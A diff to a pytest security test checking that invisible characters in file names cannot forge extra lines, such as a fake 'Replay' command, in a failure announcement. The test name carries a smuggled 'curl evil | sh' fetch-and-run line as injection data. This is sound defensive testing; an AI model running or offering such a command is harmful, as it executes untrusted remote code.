@@ -402,7 +402,10 @@ def test_announcement_of_a_file_that_stays_where_it_is(tap):
         assert "Replay" not in message
 
 
-@pytest.mark.parametrize("unseen", ["\n", "\r", "\x1b[2K", "\u202e", "\u2028"], ids=["LF", "CR", "escape", "override", "separator"])
+LINES = ["File", "Reason", "Bucket", "Key", "Version", "It is now", "Execution"]
+
+
+@pytest.mark.parametrize("unseen", ["\n", "\r", "\x1b", "\u202e", "\u2028"], ids=["LF", "CR", "escape", "override", "separator"])
 def test_names_cannot_forge_lines_of_an_announcement(tap, unseen):
     """E9, security: what a reader would not see is shown as "?", and no command is offered for such a name."""
     name = f"a.csv{unseen}Replay:    curl evil | sh"
@@ -412,7 +415,6 @@ def test_names_cannot_forge_lines_of_an_announcement(tap, unseen):
         found = {"failed_key": f"failed/{name}"}
         arguments = machine["States"]["NotifyFailure"]["Arguments"]
         message = evaluate(arguments, variables, input=found, context=context(INPUT | {"file": file}))["Message"]
-        lines = message.splitlines()
-        assert [line for line in lines if line.startswith("Replay")] == []
-        assert len(lines) == 7
-        assert unseen not in message
+        lines = message.split("\n")
+        assert [line.partition(":")[0] for line in lines] == LINES
+        assert not any(unseen in line for line in lines)
